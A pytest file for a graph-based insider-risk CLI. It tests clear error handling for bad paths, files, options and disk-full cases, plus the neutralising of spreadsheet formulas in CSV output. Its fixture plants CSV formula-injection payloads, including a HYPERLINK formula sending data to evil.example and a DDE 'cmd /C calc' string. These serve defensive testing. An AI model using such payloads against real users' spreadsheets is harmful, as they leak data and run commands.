"""A careless user's mistakes: each gives a clear message and a non-zero exit, never a traceback.

Outputs that cannot be written, data set paths and files that are not what they should be,
input files of the wrong kind, absurd option values, and values that would smuggle a formula into
a spreadsheet or a control character into an XML export. Malformed data sets live in
``tests/data/bad/`` (``control_chars``, ``implausible_dates``); the rest are here.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import networkx as nx
import pandas as pd
import pytest
from click.testing import CliRunner
from conftest import MICRO
from reliability import covers

from graphrisk.cli import main

GRAPHRISK = [sys.executable, "-c", "from graphrisk.cli import main; main()"]

# Each command that writes a file, with the arguments that make it write ``OUT``.
WRITERS = {
    "score": ["score", "--out", "OUT.csv"],
    "detect": ["detect", "--out", "OUT.csv"],
    "export": ["export", "employee", "E1", "--out", "OUT.graphml"],
    "paths": ["paths", "E1", "O1", "--out", "OUT.gexf"],
    "report": ["report", "E1", "--out", "OUT.html"],
}


def cli(*args, store: Path | None = None):
    """Run graphrisk in-process; an exception would show as a traceback to the user, so keep it."""
    extra = ["--store", str(store)] if store is not None else []
    return CliRunner().invoke(main, [*args, *extra], catch_exceptions=True)


def refused(result, exit_code: int, *words: str) -> str:
    """Assert a clear refusal: the exit code, no traceback, and the message says each of ``words``."""
    text = result.output
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError(f"traceback instead of a message: {result.exception!r}\n{text}")
    assert "Traceback" not in text
    assert result.exit_code == exit_code, text
    for word in words:
        assert word in text, f"{word!r} not in {text!r}"
    return text


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> Path:
    """The micro data set loaded into an embedded store (tests only read it)."""
    path = tmp_path_factory.mktemp("careless") / "store"
    result = cli("load", str(MICRO), "-q", store=path)
    assert result.exit_code == 0, result.output
    return path


def writer_args(command: str, out: Path) -> list[str]:
    return [str(out.parent / a.replace("OUT", out.name)) if "OUT" in a else a for a in WRITERS[command]]


# --- outputs -------------------------------------------------------------------------------


@covers("out-not-a-folder")
@pytest.mark.parametrize("command", WRITERS)
def test_out_under_a_regular_file_names_the_file(command, store, tmp_path):
    (tmp_path / "notes").write_text("mine\n")
    result = cli(*writer_args(command, tmp_path / "notes" / "sub" / "x"), store=store)
    refused(result, 1, "cannot write", str(tmp_path / "notes"), "is a file, not a folder")
    assert (tmp_path / "notes").read_text() == "mine\n"


@pytest.fixture
def unwritable(tmp_path) -> Path:
    """A folder this process cannot create files in: a read-only folder, or for root /sys."""
    if os.geteuid() != 0:
        folder = tmp_path / "read-only"
        folder.mkdir()
        folder.chmod(0o555)
        yield folder
        folder.chmod(0o755)
        return
    # root ignores permission bits; sysfs refuses new files even to root
    folder = Path("/sys")
    try:
        (folder / ".graphrisk-probe").open("w").close()
    except OSError:
        yield folder
        return
    pytest.skip("running as root and /sys accepts files: no folder refuses root here")


@covers("out-unwritable")
@pytest.mark.parametrize("command", WRITERS)
def test_out_in_an_unwritable_folder_says_so(command, store, unwritable):
    out = unwritable / "graphrisk-careless"
    result = cli(*writer_args(command, out), store=store)
    text = refused(result, 1, "cannot write", str(unwritable))
    assert "ermission denied" in text or "not permitted" in text


@covers("out-disk-full")
@pytest.mark.parametrize("command", ["score", "detect", "export"])
def test_a_full_disk_keeps_the_earlier_file_and_leaves_nothing_half_written(
    command, store, tmp_path, monkeypatch
):
    out = tmp_path / "x.csv"
    out.write_text("earlier\n")

    def full(self, target, *args, **kwargs):
        Path(target).write_text("half a fi")
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(pd.DataFrame, "to_csv", full)
    args = (
        writer_args(command, out) if command != "export" else ["export", "employee", "E1", "--out", str(out)]
    )
    result = cli(*args, store=store)
    refused(result, 1, f"cannot write {out}", "no space left on the device", "nothing was written")
    assert out.read_text() == "earlier\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.csv"]


@covers("out-is-a-directory")
@pytest.mark.parametrize("command", WRITERS)
def test_out_naming_an_existing_folder_is_refused(command, store, tmp_path):
    folder = tmp_path / "folder.csv"
    folder.mkdir()
    args = [a if a.startswith("OUT") is False else str(folder) for a in WRITERS[command]]
    result = cli(*args, store=store)
    refused(result, 2, "is a directory")


@covers("stdout-full")
@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full (Linux)")
def test_standard_output_on_a_full_device_is_one_line(tmp_path):
    with open("/dev/full", "w") as full:
        done = subprocess.run(
            [*GRAPHRISK, "query", "--list", "--format", "json"],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            cwd=tmp_path,
            check=False,
        )
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert done.stderr.strip() == "Error: cannot write to standard output: No space left on device"


@covers("generate-unwritable")
def test_generate_into_a_path_under_a_file_fails_before_generating(tmp_path):
    (tmp_path / "notes").write_text("")
    result = cli("generate", str(tmp_path / "notes" / "set"), "--preset", "tiny", "-q")
    refused(result, 1, "cannot write into", "notes is a file, not a folder")


# --- input files -----------------------------------------------------------------------------


@covers("dataset-path")
@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda p: None, "does not exist"),
        (lambda p: p.write_text("x"), "is a file, not a directory"),
        (lambda p: p.symlink_to(p.name), "is a symbolic link that loops back on itself"),
        (lambda p: p.symlink_to("elsewhere"), "is a symbolic link to elsewhere, which does not exist"),
    ],
    ids=["missing", "file", "symlink-loop", "dangling-symlink"],
)
def test_a_data_set_path_that_is_not_a_directory_says_what_it_is(make, message, tmp_path):
    path = tmp_path / "set"
    make(path)
    result = cli("load", str(path), store=tmp_path / "store")
    refused(result, 3, f"{path}: {message} (a data set is a directory)", "Nothing was written")
    assert not (tmp_path / "store").exists()


@covers("data-file-not-regular")
@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda p: p.symlink_to(p.name), "is a symbolic link that loops back on itself"),
        (lambda p: os.mkfifo(p), "is a named pipe (FIFO), not a file"),
        (lambda p: p.mkdir(), "is a directory, not a file"),
        (
            lambda p: p.symlink_to("/nonexistent/p.csv"),
            "is a symbolic link to /nonexistent/p.csv, which does not exist",
        ),
    ],
    ids=["symlink-loop", "fifo", "directory", "dangling-symlink"],
)
def test_a_data_file_that_is_not_a_file_says_what_it_is(make, message, micro_dir, tmp_path):
    (micro_dir / "persons.csv").unlink()
    make(micro_dir / "persons.csv")
    result = cli("load", str(micro_dir), store=tmp_path / "store")
    text = refused(result, 3, f"persons.csv: {message}")
    assert "missing" not in text  # it is there; it is the wrong kind of thing


@covers("data-file-unreadable")
def test_an_unreadable_data_file_is_a_problem_not_a_traceback(micro_dir, tmp_path, monkeypatch):
    target = micro_dir / "persons.csv"
    if os.geteuid() != 0:
        target.chmod(0)
    else:  # root reads any file: make the read fail as it fails for others
        import graphrisk.ingest.files as files

        real = files._check_utf8

        def denied(path):
            if path.name == "persons.csv":
                raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(path))
            return real(path)

        monkeypatch.setattr(files, "_check_utf8", denied)
    result = cli("load", str(micro_dir), store=tmp_path / "store")
    refused(result, 3, "persons.csv: cannot be read (Permission denied)", "Nothing was written")


@covers("latin1-field")
def test_an_invalid_utf8_byte_is_placed_in_its_field_not_at_a_character_offset(micro_dir, tmp_path):
    lines = (micro_dir / "units.csv").read_bytes().splitlines(keepends=True)
    # a quoted comma before it: field 4 (area_id), though it is the 30th character of the line
    lines[3] = b'T1,"Basisteam Zaanstad, Oost",U1,M\xe91\n'
    (micro_dir / "units.csv").write_bytes(b"".join(lines))
    result = cli("load", str(micro_dir), store=tmp_path / "store")
    refused(result, 3, "units.csv:4:4: area_id: not valid UTF-8 (byte 0xe9)")


@covers("implausible-dates-parquet")
def test_parquet_timestamps_and_dates_outside_the_span_are_refused(micro_dir, tmp_path):
    log = pd.read_csv(micro_dir / "access_log.csv", dtype=str, keep_default_na=False)
    log["ts"] = pd.to_datetime(log["ts"], utc=True).astype("datetime64[us, UTC]")
    log.loc[2, "ts"] = pd.Timestamp("9999-01-01T00:00:00Z")
    log["case_id"] = log["case_id"].replace("", None)
    log.to_parquet(micro_dir / "access_log.parquet", index=False)
    (micro_dir / "access_log.csv").unlink()
    result = cli("load", str(micro_dir), store=tmp_path / "store")
    refused(
        result, 3, "access_log.parquet:3:2: ts:", "is outside the plausible span 1900-01-01 to 2100-12-31"
    )


@covers("input-file-wrong")
@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["explain", "E1", "--scores", "none.csv"], "scores file 'none.csv' does not exist"),
        (["explain", "E1", "--scores", "fifo.csv"], "scores file 'fifo.csv' is a named pipe (FIFO)"),
        (["explain", "E1", "--scores", "persons.csv"], "persons.csv is not a scores file of graphrisk score"),
        (["explain", "E1", "--scores", "broken.parquet"], "cannot read the scores file broken.parquet"),
        (["explain", "E1", "--scores", "broken.json"], "cannot read the scores file broken.json"),
        (["report", "E1", "-o", "r.html", "--scores", "fifo.csv"], "scores file 'fifo.csv' is a named pipe"),
        (
            ["report", "E1", "-o", "r.html", "--findings", "none.csv"],
            "findings file 'none.csv' does not exist",
        ),
        (["report", "E1", "-o", "r.html", "--findings", "persons.csv"], "is not a findings file"),
        (["report", "E1", "-o", "r.html", "--findings", "broken.parquet"], "cannot read the findings file"),
        (["cypher", "-f", "fifo.csv"], "--file 'fifo.csv' is a named pipe (FIFO)"),
    ],
    ids=lambda v: "-".join(v) if isinstance(v, list) else None,
)
def test_input_files_of_the_wrong_kind_are_named(args, message, store, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    os.mkfifo("fifo.csv")  # read, it would block for ever
    shutil.copy(MICRO / "persons.csv", "persons.csv")
    Path("broken.parquet").write_bytes(b"PAR")
    Path("broken.json").write_text("{")
    refused(cli(*args, store=store), 2, message)


@covers("input-file-wrong")
def test_evaluate_names_a_data_set_that_is_a_file_and_a_scores_fifo(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    os.mkfifo("fifo.csv")
    Path("set").write_text("")
    refused(cli("evaluate", "set", "--scores", "fifo.csv"), 2, "data set 'set' is a file, not a directory")
    refused(cli("evaluate", str(MICRO), "--scores", "fifo.csv"), 2, "'fifo.csv' is a named pipe (FIFO)")


@covers("empty-dataset")
def test_an_empty_data_set_lists_the_required_files(tmp_path):
    (tmp_path / "empty").mkdir()
    text = refused(cli("load", str(tmp_path / "empty"), store=tmp_path / "store"), 3, "Nothing was written")
    for name in ("areas", "units", "persons", "employees", "access_log"):
        assert f"{name}.csv: required file is missing from" in text


# --- options ---------------------------------------------------------------------------------


@covers("absurd-options")
@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (["score", "--window", "0d"], 2, "write a positive number"),
        (["score", "--window", "-3d"], 2, "write a positive number"),
        (["score", "--window", "99999999999999d"], 2, "longer than any data set can span"),
        (["score", "--window", "80000d"], 2, "longer than any data set can span (1900-01-01 to 2100-12-31"),
        (["explain", "E1", "--window", "999999999999999999999h"], 2, "longer than any data set can span"),
        (["score", "--top", "-1"], 2, "-1 is not in the range x>=0"),
        (["score", "--threshold", "nan"], 2, "--threshold nan: give a score between 0 and 100"),
        (["score", "--threshold", "101"], 2, "not in the range 0<=x<=100"),
        (["score", "--as-of", "yesterday"], 2, "is not a date or ISO 8601 timestamp"),
        (["report", "--top", "0", "--out", "r.html"], 2, "--top must be 1 or more"),
        (["export", "employee", "E1", "--out", "x.txt"], 2, "export as .graphml"),
        (["score", "--out", "x.xlsx"], 2, "write scores as .parquet, .csv, .json"),
    ],
    ids=lambda v: " ".join(v) if isinstance(v, list) else None,
)
def test_absurd_option_values_are_refused(args, code, message, store, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    refused(cli(*args, store=store), code, message)


@covers("absurd-options")
def test_far_but_possible_dates_as_options_still_work(store):
    """--as-of and --since far in the past or future are odd, not wrong: an empty window, no crash."""
    for args in (["score", "--as-of", "9999-12-31", "-q"], ["detect", "--since", "0001-01-01", "-q"]):
        result = cli(*args, store=store)
        assert result.exit_code == 0 and result.exception is None, result.output


@covers("neo4j-uri-scheme")
@pytest.mark.parametrize("uri", ["http://x", "https://x:7474", "ftp://x", "localhost:7687", "bolt://"])
def test_a_neo4j_uri_that_is_not_bolt_is_a_usage_error(uri):
    """Before: http:// gave the driver's PreviewWarning, then a ModuleNotFoundError (aiohttp) traceback."""
    done = subprocess.run(
        [*GRAPHRISK, "stats"],
        env={**os.environ, "NEO4J_URI": uri},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr and "Warning" not in done.stderr, done.stderr
    assert f"Neo4j URI {uri!r}: write SCHEME://HOST[:PORT] with a scheme of bolt, bolt+s" in done.stderr
    refused(cli("stats", "--neo4j-uri", uri), 2, "graphrisk speaks Bolt, not HTTP")


# --- values that outputs must not pass on ---------------------------------------------------


def _formula_dataset(tmp_path: Path) -> Path:
    """The micro data set with an employee id, a person's name and an organisation's name that a
    spreadsheet would run, and an employee id that reads as a negative number."""
    target = tmp_path / "formulas"
    shutil.copytree(MICRO, target)
    for path in target.glob("*.csv"):
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
        header = rows[0]
        for row in rows[1:]:
            for i, name in enumerate(header):
                if name == "employee_id" and row[i] == "E1":
                    row[i] = "=E1"
                if name == "employee_id" and row[i] == "E2":
                    row[i] = "-5"
                if path.stem == "persons" and name == "name" and row[0] == "P4":
                    row[i] = '=HYPERLINK("http://evil.example/?"&A1,"Daan")'
                if path.stem == "organisations" and name == "name":
                    row[i] = "@SUM(1+1)*cmd|' /C calc'!A0"
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerows(rows)
        path.write_text(buffer.getvalue(), encoding="utf-8")
    return target


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


@covers("csv-formulas")
def test_csv_outputs_neutralise_formulas_and_graphrisk_reads_them_back(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    data = _formula_dataset(tmp_path)
    store = tmp_path / "store"
    assert cli("load", str(data), "-q", store=store).exit_code == 0
    for args in (
        # revealed: the raw ids and names are what must be neutralised (pseudonyms start with EMP)
        ["detect", "--out", "f.csv", "-q", "--reveal", "formula test"],
        ["score", "--out", "s.csv", "-q", "--reveal", "formula test"],
        ["export", "employee", "=E1", "--hops", "3", "--out", "e.csv", "-q", "--reveal", "formula test"],
    ):
        result = cli(*args, store=store)
        assert result.exit_code == 0, result.output
    cells = {name: _cells(tmp_path / name) for name in ("f.csv", "s.csv", "e.csv")}
    for name, found in cells.items():
        runnable = [c for c in found if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-5")]
        assert not runnable, f"{name} has cells a spreadsheet would run: {runnable}"
    assert "'=E1" in cells["f.csv"] and "'=E1" in cells["s.csv"]
    assert "-5" in cells["s.csv"]  # reads as a number: runs nothing, left as it is
    assert "'-5 brigadier" in cells["e.csv"]  # a label starting with the id: text, neutralised
    assert any("=HYPERLINK(" in c for c in cells["e.csv"])  # inside a cell it runs nothing: kept
    # numbers stay numbers
    scores = pd.read_csv(tmp_path / "s.csv")
    assert pd.api.types.is_float_dtype(scores["score"])

    # graphrisk's own readers give back the values as they were
    explained = cli("explain", "=E1", "--scores", "s.csv", "--json", store=store)
    assert explained.exit_code == 0, explained.output
    assert json.loads(explained.stdout)["employee_id"] == "=E1"
    report = cli(
        "report", "=E1", "-o", "d.html", "--scores", "s.csv", "--findings", "f.csv", "--json", store=store
    )
    assert report.exit_code == 0, report.output
    dossier = json.loads(report.stdout)
    assert dossier["score"] is not None and dossier["findings"] > 0  # both files matched '=E1'
    from graphrisk.files import read_findings
    from graphrisk.reports.scores import read_scores

    assert set(read_findings(tmp_path / "f.csv")["employee_id"]) >= {"=E1"}
    assert read_scores(tmp_path / "s.csv").of("=E1") is not None
    evaluated = cli("evaluate", str(data), "--scores", "s.csv", "--json")
    assert evaluated.exit_code == 0, evaluated.output  # '=E1' would be an unknown employee


@covers("csv-formulas")
def test_query_csv_rows_on_standard_output_are_neutralised(capsys):
    from graphrisk.cli import Output
    from graphrisk.commands.analyst import _print_frame

    frame = pd.DataFrame({"=name": ["=1+2", "-5", "@x", "plain"], "n": [-3, 1, 2, 3]})
    _print_frame(Output(), frame, "csv", {})
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows == [["'=name", "n"], ["'=1+2", "-3"], ["-5", "1"], ["'@x", "2"], ["plain", "3"]]


@covers("export-control-characters")
@pytest.mark.parametrize("suffix", [".graphml", ".gexf"])
def test_xml_exports_stay_valid_with_a_control_character_left_in_a_store(suffix, tmp_path):
    """load refuses control characters (tests/data/bad/control_chars); a store filled by an older
    version may still hold one, and the export must still be XML."""
    from graphrisk.analyst.export import write_graph

    graph = nx.MultiDiGraph()
    graph.add_node("Person:P\x001", type="Person", key="P\x001", label="Bram\x00Jansen\x1b[2J")
    graph.add_node("Employee:E1", type="Employee", key="E1", label="Anna")
    graph.add_edge("Employee:E1", "Person:P\x001", type="RELATED_TO", kind="fri\x0bend")
    out = write_graph(graph, tmp_path / f"g{suffix}")
    text = out.read_text(encoding="utf-8")
    ET.fromstring(text)  # valid XML
    assert "Bram\\x00Jansen\\x1b[2J" in text
